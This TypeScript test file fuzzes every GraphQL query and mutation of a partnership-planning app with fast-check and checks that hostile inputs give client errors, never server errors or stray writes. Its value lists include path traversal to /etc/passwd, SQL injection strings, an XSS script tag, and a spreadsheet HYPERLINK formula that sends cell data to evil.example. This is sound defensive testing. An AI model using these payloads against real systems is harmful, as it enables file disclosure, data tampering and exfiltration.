// Hostile values in every GraphQL input. The schema is walked (every query and mutation with
// arguments); each run builds a sensible request for one field (real ids of the demo data, plain
// text, small numbers) and puts one hostile value at one place in it: an out-of-range or
// non-finite number, a NUL, a very long string, odd unicode, path traversal, SQL-ish text, an
// impossible date. Executed in process (as the web app does, where NaN and Infinity can be
// variables) and over HTTP through yoga (JSON), signed in as a partnership lead and anonymously.
//
// Every answer must be a client error or a typed result: no 5xx, no masked "Unexpected error."
// (INTERNAL_SERVER_ERROR), nothing logged as unexpected. Values GraphQL must refuse outright
// (a NUL, an Int out of range, a string for a number...) must also write nothing: the audit trail
// and the row counts stay as they were.
//
// Bounded and repeatable: a fixed seed (LIP_FUZZ_SEED to vary it) and LIP_FUZZ_RUNS runs per
// property (default 100; the cheap property runs three times as many), after a fixed sweep of
// every input place with values that break columns.
import fc from 'fast-check';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLNamedInputType,
  type GraphQLSchema,
} from 'graphql';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { encodeGlobalId, type Core, type RequestContext } from '../src/index.ts';
import { createTestCore, DEMO_PASSWORD, type TestCore } from '../src/testing.ts';
import { testPlugins } from './support/plugins.ts';

const SEED = Number(process.env.LIP_FUZZ_SEED ?? 20261204);
const RUNS = Number(process.env.LIP_FUZZ_RUNS ?? 100);
const LEAD = 'lead@northshire.example';

/** Fields left out: signing out would end the session the other runs use. */
const SKIPPED = new Set(['signOut']);

let test_: TestCore;
let core: Core;
let leadToken: string;
let lead: RequestContext;
let anonymous: RequestContext;
const unexpected: unknown[] = [];
/** A real global id of each Node type in the demo data, by type name. */
const ids = new Map<string, string>();

const MODELS: Record<string, string> = {
  Comment: 'comment',
  Commitment: 'commitment',
  CoproductionActivity: 'coproductionActivity',
  CoproductionResponse: 'coproductionResponse',
  Member: 'member',
  MetricTarget: 'metricTarget',
  ObservationImport: 'observationImport',
  Organisation: 'organisation',
  Partnership: 'partnership',
  Plan: 'plan',
  PlanVersion: 'planVersion',
  SignOff: 'signOff',
  StandardArea: 'standardArea',
  User: 'user',
  Section: 'section',
  Metric: 'metric',
};

beforeAll(async () => {
  test_ = await createTestCore({ plugins: testPlugins, onError: (e) => unexpected.push(e) });
  core = test_.core;
  const signIn = await core.execute<{ signIn: { data?: { token: string } } }>({
    document: `mutation($input: SignInInput!) { signIn(input: $input) { ... on MutationSignInSuccess { data { token } } } }`,
    variables: { input: { email: LEAD, password: DEMO_PASSWORD } },
    context: await core.contextForSession(undefined),
  });
  leadToken = signIn.data!.signIn.data!.token;
  lead = await core.contextForSession(leadToken);
  anonymous = await core.contextForSession(undefined);
  const northshire = await test_.db.prisma.partnership.findFirstOrThrow({
    where: { slug: 'northshire' },
  });
  for (const [type, model] of Object.entries(MODELS)) {
    // Prisma's delegates share findFirst; the model is chosen by name, so typed loosely here.
    const delegate = (
      test_.db.prisma as unknown as Record<
        string,
        { findFirst: (a: object) => Promise<{ id: string } | null> }
      >
    )[model];
    const where = ['plan', 'member', 'metricTarget', 'observationImport'].includes(model)
      ? { partnershipId: northshire.id }
      : {};
    const row = await delegate?.findFirst({ where, select: { id: true } }).catch(() => null);
    if (row) ids.set(type, encodeGlobalId(type, row.id));
  }
  ids.set('Partnership', encodeGlobalId('Partnership', northshire.id));
  // An organisation of the partnership, so owner fields are valid and writes go through.
  const member = await test_.db.prisma.partnershipOrganisation.findFirstOrThrow({
    where: { partnershipId: northshire.id },
  });
  ids.set('Organisation', encodeGlobalId('Organisation', member.organisationId));
  const plan = await test_.db.prisma.plan.findFirstOrThrow({
    where: { partnershipId: northshire.id },
  });
  ids.set('Plan', encodeGlobalId('Plan', plan.id));
  const area = await test_.db.prisma.standardArea.findFirst({
    where: { frameworkId: plan.frameworkId },
  });
  if (area) ids.set('StandardArea', encodeGlobalId('StandardArea', area.id));
}, 180_000);

afterAll(() => test_?.close());

// ---- Requests built from the schema -------------------------------------------------------------

interface Target {
  operation: 'query' | 'mutation';
  field: GraphQLField<unknown, unknown>;
}

function targets(schema: GraphQLSchema): Target[] {
  const out: Target[] = [];
  for (const [operation, type] of [
    ['query', schema.getQueryType()],
    ['mutation', schema.getMutationType()],
  ] as const) {
    for (const field of Object.values(type?.getFields() ?? {})) {
      if (field.args.length > 0 && !SKIPPED.has(field.name)) out.push({ operation, field });
    }
  }
  return out;
}

/** "planId" → Plan; "id" inside UpdateCommitmentInput → Commitment; undefined when unknown. */
function idFor(name: string, owner: string): string | undefined {
  const fromName = name.replace(/Ids?$/, '');
  const typeName = fromName.charAt(0).toUpperCase() + fromName.slice(1);
  const known = [...ids.keys()].sort((a, b) => b.length - a.length);
  if (name !== 'id' && name !== 'ids') {
    // "ownerOrganisationId" → Organisation
    const named = known.find((t) => typeName.endsWith(t));
    if (named) return ids.get(named)!;
  }
  if (name !== 'id' && name !== 'ids') return undefined;
  const inOwner = known.find((t) => owner.includes(t));
  return inOwner ? ids.get(inOwner) : undefined;
}

function sensibleScalar(type: GraphQLNamedInputType, name: string, owner: string): unknown {
  if (isEnumType(type)) return type.getValues()[0]!.value;
  switch (type.name) {
    case 'ID':
      return idFor(name, owner);
    case 'String':
      if (/slug/i.test(name)) return 'northshire';
      if (/amount/i.test(name)) return '12500';
      if (/value$/i.test(name)) return '12.5';
      if (/period$/i.test(name)) return '2025';
      if (/sectionKey|^key$/.test(name)) return 'education';
      if (/email/i.test(name)) return 'fuzz@example.invalid';
      if (/password/i.test(name)) return 'not-the-password';
      return 'Fuzz text';
    case 'Int':
      return /version/i.test(name) ? 0 : 1;
    case 'Float':
      return 1.5;
    case 'Boolean':
      return true;
    case 'Date':
      return '2026-09-01';
    case 'DateTime':
      return '2026-09-01T09:30:00.000Z';
    default:
      return undefined; // File: not sent
  }
}

/** A sensible value of an input type (every optional field filled in, lists of one). */
function sensible(type: GraphQLInputType, name: string, owner: string, depth = 0): unknown {
  if (isNonNullType(type)) return sensible(type.ofType, name, owner, depth);
  if (isListType(type)) {
    const item = sensible(type.ofType, name, owner, depth + 1);
    return item === undefined ? [] : [item];
  }
  if (isInputObjectType(type)) {
    if (depth > 4) return undefined;
    const value: Record<string, unknown> = {};
    for (const field of Object.values(type.getFields())) {
      let v = sensible(field.type, field.name, type.name, depth + 1);
      // A required id nothing is known of: some real id, so the request is well formed.
      if (v === undefined && isNonNullType(field.type) && getNamedType(field.type).name === 'ID')
        v = ids.get('Plan');
      if (v !== undefined) value[field.name] = v;
    }
    return value;
  }
  return sensibleScalar(getNamedType(type) as GraphQLNamedInputType, name, owner);
}

interface Leaf {
  path: Array<string | number>;
  type: GraphQLNamedInputType;
}

/** Every scalar or enum position of a value of `type`. */
function leaves(type: GraphQLInputType, value: unknown, path: Array<string | number>): Leaf[] {
  if (isNonNullType(type)) return leaves(type.ofType, value, path);
  if (isListType(type))
    return Array.isArray(value)
      ? value.flatMap((v, i) => leaves(type.ofType, v, [...path, i]))
      : [];
  if (isInputObjectType(type)) {
    if (!value || typeof value !== 'object') return [];
    return Object.values(type.getFields()).flatMap((f) =>
      f.name in value
        ? leaves(f.type, (value as Record<string, unknown>)[f.name], [...path, f.name])
        : [],
    );
  }
  return [{ path, type: type as GraphQLNamedInputType }];
}

function withValue(root: Record<string, unknown>, path: Array<string | number>, value: unknown) {
  const copy = structuredClone(root);
  let at: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  at[path.at(-1)!] = value;
  return copy;
}

interface FuzzRequest {
  document: string;
  variables: Record<string, unknown>;
  leaves: Leaf[];
}

function request(target: Target): FuzzRequest {
  const args = target.field.args as readonly GraphQLArgument[];
  const variables: Record<string, unknown> = {};
  for (const arg of args) {
    let v = sensible(arg.type, arg.name, target.field.name);
    if (v === undefined && isNonNullType(arg.type) && getNamedType(arg.type).name === 'ID')
      v = ids.get('Plan');
    if (v !== undefined) variables[arg.name] = v;
  }
  const definitions = args.map((a) => `$${a.name}: ${String(a.type)}`).join(', ');
  const call = args.map((a) => `${a.name}: $${a.name}`).join(', ');
  const named = getNamedType(target.field.type);
  const selection = isScalarType(named) || isEnumType(named) ? '' : ' { __typename }';
  return {
    document: `${target.operation} Fuzz(${definitions}) { ${target.field.name}(${call})${selection} }`,
    variables,
    leaves: args.flatMap((a) => leaves(a.type, variables[a.name], [a.name])),
  };
}

// ---- Hostile values -----------------------------------------------------------------------------

/** Strings that are not text: a NUL, an unpaired surrogate. */
const notText = fc.oneof(
  fc.constantFrom(
    '\u0000',
    'northshire\u0000',
    'a\u0000b',
    '\u0000'.repeat(3),
    '\uD800',
    'x\uDC00y',
  ),
  fc
    .tuple(fc.string(), fc.constantFrom('\u0000', '\uD800', '\uDFFF'), fc.string())
    .map(([a, bad, b]) => `${a}${bad}${b}`),
);

/** Values GraphQL must refuse before anything runs. `json`: only what JSON can carry (HTTP). */
function refusedFor(type: GraphQLNamedInputType, json: boolean): fc.Arbitrary<unknown> {
  const nonFinite: unknown[] = json ? [] : [Number.NaN, Infinity, -Infinity];
  if (isEnumType(type)) return fc.constantFrom('NOT_A_VALUE', 1, true, {});
  switch (type.name) {
    case 'ID':
    case 'String':
      return notText;
    case 'Int':
      return fc.constantFrom(2147483648, -2147483649, 1e20, 1.5, '1', 'zzz', true, ...nonFinite);
    case 'Float':
      return fc.constantFrom('1.5', 'zzz', true, {}, ...nonFinite);
    case 'Boolean':
      return fc.constantFrom('true', 1, {});
    case 'Date':
      return fc.constantFrom(20260901, true, {});
    case 'DateTime':
      return fc.constantFrom('not a date', 'zzz', true);
    default:
      return fc.constant({});
  }
}

const oddText = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '../../../../etc/passwd',
    '..%2F..%2Fetc%2Fpasswd',
    '\'; DROP TABLE "Plan"; --',
    "1' OR '1'='1",
    '\u202eevil\u202c',
    '\uD800',
    '\uFEFF',
    '😀'.repeat(60),
    'Ω≈ç√∫˜µ≤≥÷',
    '<script>alert(1)</script>',
    '=HYPERLINK("http://evil.example/?x="&A1,"details")',
    '-1',
    '2147483648',
    '99999999999999999999',
    '1e309',
    'NaN',
    '0000-01-01',
    '1,000,000,000,000.99',
    '£999,999,999,999.99',
    'x'.repeat(10_001),
    'y'.repeat(200_000),
  ),
  fc.string({ unit: 'binary', maxLength: 300 }),
);

/** Values that are odd but of the right type: they may be accepted, never a server error. */
function oddFor(type: GraphQLNamedInputType): fc.Arbitrary<unknown> {
  if (isEnumType(type)) return fc.constantFrom(...type.getValues().map((v) => v.value));
  switch (type.name) {
    case 'ID':
    case 'String':
      return oddText;
    case 'Int':
      return fc.oneof(
        fc.constantFrom(0, -1, 2147483647, -2147483648, 1000000),
        fc.integer({ min: -2147483648, max: 2147483647 }),
      );
    case 'Float':
      return fc.oneof(
        fc.constantFrom(0, -0, -1, 1e308, -1e308, 5e-324, 123456789012345.67),
        fc.double({ noNaN: true, noDefaultInfinity: true }),
      );
    case 'Boolean':
      return fc.boolean();
    case 'Date':
      return fc.constantFrom(
        '0000-01-01',
        '9999-12-31',
        '1899-12-31',
        '2201-01-01',
        '2026-02-30',
        '',
        'zzz',
      );
    case 'DateTime':
      return fc.constantFrom(
        '0000-01-01T00:00:00.000Z',
        '+275760-09-13T00:00:00.000Z',
        '-000001-01-01T00:00:00Z',
        '2026-13-45',
      );
    default:
      return fc.constant(undefined);
  }
}

// ---- Running ------------------------------------------------------------------------------------

interface Answer {
  status: number;
  errors: ReadonlyArray<{ message: string; extensions?: Record<string, unknown> }>;
}

async function inProcess(req: FuzzRequest, asLead: boolean): Promise<Answer> {
  const result = await core.execute({
    document: req.document,
    variables: req.variables,
    context: asLead ? lead : anonymous,
  });
  return { status: 200, errors: result.errors ?? [] };
}

async function overHttp(req: FuzzRequest, asLead: boolean): Promise<Answer> {
  const response = await core.yoga.fetch('http://localhost/graphql', {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      accept: 'application/graphql-response+json',
      ...(asLead ? { authorization: `Bearer ${leadToken}` } : {}),
    },
    body: JSON.stringify({ query: req.document, variables: req.variables }),
  });
  const text = await response.text();
  let errors: Answer['errors'] = [];
  try {
    errors = (JSON.parse(text) as { errors?: Answer['errors'] }).errors ?? [];
  } catch {
    // A non-JSON answer (e.g. a plain 413) has no GraphQL errors to look at.
  }
  return { status: response.status, errors };
}

function serverErrors(answer: Answer): string[] {
  const problems = answer.errors
    .filter(
      (e) => e.extensions?.code === 'INTERNAL_SERVER_ERROR' || e.message === 'Unexpected error.',
    )
    .map((e) => e.message);
  if (answer.status >= 500) problems.push(`HTTP ${answer.status}`);
  return problems;
}

async function writes(): Promise<number[]> {
  const p = test_.db.prisma;
  return Promise.all([
    p.auditEvent.count(),
    p.commitment.count(),
    p.comment.count(),
    p.coproductionActivity.count(),
    p.observationImport.count(),
    p.metricTarget.count(),
    p.planVersion.count(),
    p.signOff.count(),
    p.session.count(),
  ]);
}

const describeLabel = (t: Target, leaf: Leaf, value: unknown) =>
  `${t.operation} ${t.field.name} ${leaf.path.join('.')}=${typeof value === 'string' ? JSON.stringify(value.slice(0, 80)) : String(value)}`;

interface Case {
  target: Target;
  req: FuzzRequest;
  leaf: Leaf;
  value: unknown;
  asLead: boolean;
}

/** How fast-check prints a counterexample: the request, not the schema objects behind it. */
function printable(c: Omit<Case, 'req'> & { req: FuzzRequest }): Case {
  return Object.assign(c, {
    [fc.toStringMethod]: () =>
      `${c.target.operation} ${c.target.field.name} ${c.leaf.path.join('.')}=${fc.stringify(c.value)} as ${c.asLead ? 'lead' : 'nobody'}`,
  });
}

function caseOf(
  all: Target[],
  valueFor: (leaf: Leaf, json: boolean) => fc.Arbitrary<unknown>,
  json: boolean,
): fc.Arbitrary<Case | null> {
  return fc
    .tuple(fc.constantFrom(...all), fc.nat(), fc.boolean())
    .chain(([target, pick, asLead]): fc.Arbitrary<Case | null> => {
      const req = request(target);
      if (req.leaves.length === 0) return fc.constant(null);
      const leaf = req.leaves[pick % req.leaves.length]!;
      return valueFor(leaf, json).map((value) => printable({ target, req, leaf, value, asLead }));
    });
}

describe('hostile GraphQL inputs', () => {
  test('the schema has inputs to fuzz', () => {
    const all = targets(core.schema);
    expect(all.length).toBeGreaterThan(20);
    expect(ids.get('Plan')).toBeTruthy();
  });

  test('the sensible requests reach the resolvers, so the hostile values go deep', async () => {
    const outcomes: Record<string, string> = {};
    for (const target of targets(core.schema).filter((t) => t.operation === 'mutation')) {
      const req = request(target);
      const result = await inProcess(req, true);
      const data = (
        await core.execute<Record<string, { __typename?: string }>>({
          document: req.document,
          variables: req.variables,
          context: lead,
        })
      ).data;
      outcomes[target.field.name] =
        result.errors[0]?.message ?? data?.[target.field.name]?.__typename ?? 'null';
    }
    // Creating is where a value reaches a column: these must get through with sensible values.
    expect(outcomes, JSON.stringify(outcomes, null, 1)).toMatchObject({
      createCommitment: 'MutationCreateCommitmentSuccess',
      addComment: 'MutationAddCommentSuccess',
      createCoproductionActivity: 'MutationCreateCoproductionActivitySuccess',
    });
  });

  test('every place of every input, with values that break columns, signed in as the lead', async () => {
    // A fixed sweep before the random runs: rare combinations (one field, one value) are certain here.
    const sweep: Record<string, unknown[]> = {
      String: [
        '99999999999999999999',
        '-1',
        'x'.repeat(10_001),
        '\uFEFF',
        '\'; DROP TABLE "Plan"; --',
        '',
      ],
      ID: ['99999999999999999999', '-1', 'x'.repeat(10_001), ''],
      Int: [2147483647, -2147483648, -1],
      Float: [1e308, -1e308, 5e-324],
      Date: ['0000-01-01', '9999-12-31'],
      DateTime: ['0000-01-01T00:00:00.000Z', '+275760-09-13T00:00:00.000Z'],
    };
    for (const target of targets(core.schema)) {
      const req = request(target);
      for (const leaf of req.leaves) {
        for (const value of sweep[leaf.type.name] ?? []) {
          unexpected.length = 0;
          const variables = withValue(req.variables, leaf.path, value);
          const answer = await inProcess({ ...req, variables }, true);
          const label = describeLabel(target, leaf, value);
          expect(serverErrors(answer), label).toEqual([]);
          expect(unexpected.map(String), label).toEqual([]);
        }
      }
    }
  }, 600_000);

  for (const transport of ['in process', 'over HTTP'] as const) {
    const json = transport === 'over HTTP';
    const send = json ? overHttp : inProcess;

    test(`values GraphQL must refuse are refused and write nothing (${transport})`, async () => {
      const all = targets(core.schema);
      await fc.assert(
        fc.asyncProperty(
          caseOf(all, (leaf, j) => refusedFor(leaf.type, j), json),
          async (c) => {
            if (!c) return;
            const variables = withValue(c.req.variables, c.leaf.path, c.value);
            unexpected.length = 0;
            const before = await writes();
            const answer = await send({ ...c.req, variables }, c.asLead);
            const label = describeLabel(c.target, c.leaf, c.value);
            expect(serverErrors(answer), label).toEqual([]);
            expect(answer.errors.length, `${label} was not refused`).toBeGreaterThan(0);
            expect(await writes(), `${label} wrote something`).toEqual(before);
            expect(unexpected.map(String), label).toEqual([]);
          },
        ),
        { seed: SEED, numRuns: RUNS, endOnFailure: true },
      );
    });

    test(`odd values of the right type never cause a server error (${transport})`, async () => {
      const all = targets(core.schema);
      await fc.assert(
        fc.asyncProperty(
          caseOf(all, (leaf) => oddFor(leaf.type), json),
          async (c) => {
            if (!c) return;
            const variables = withValue(c.req.variables, c.leaf.path, c.value);
            unexpected.length = 0;
            const answer = await send({ ...c.req, variables }, c.asLead);
            const label = describeLabel(c.target, c.leaf, c.value);
            expect(serverErrors(answer), label).toEqual([]);
            expect(unexpected.map(String), label).toEqual([]);
          },
        ),
        // Cheap runs (nothing counted before and after): three times as many.
        { seed: SEED + 1, numRuns: RUNS * 3, endOnFailure: true },
      );
    });
  }

  test('a NUL or an unpaired surrogate anywhere is refused as a request error that names where it is', async () => {
    const answer = await overHttp(
      {
        document: 'query($slug: String!) { partnership(slug: $slug) { id } }',
        variables: { slug: 'north\u0000shire' },
        leaves: [],
      },
      true,
    );
    expect(answer.status).toBe(400);
    expect(answer.errors[0]?.message).toMatch(/^Variable "\$slug" got invalid value .*NUL/);
    const surrogate = await overHttp(
      {
        document: 'mutation($input: SignInInput!) { signIn(input: $input) { __typename } }',
        variables: { input: { email: 'a@b.example', password: 'x\uD800' } },
        leaves: [],
      },
      false,
    );
    expect(surrogate.status).toBe(400);
    expect(surrogate.errors[0]?.message).toMatch(
      /^Variable "\$input" got invalid value \(an unpaired surrogate\) at "input\.password"/,
    );
    const inline = await inProcess(
      { document: 'query { partnership(slug: "a\\u0000b") { id } }', variables: {}, leaves: [] },
      true,
    );
    expect(inline.errors[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });
});
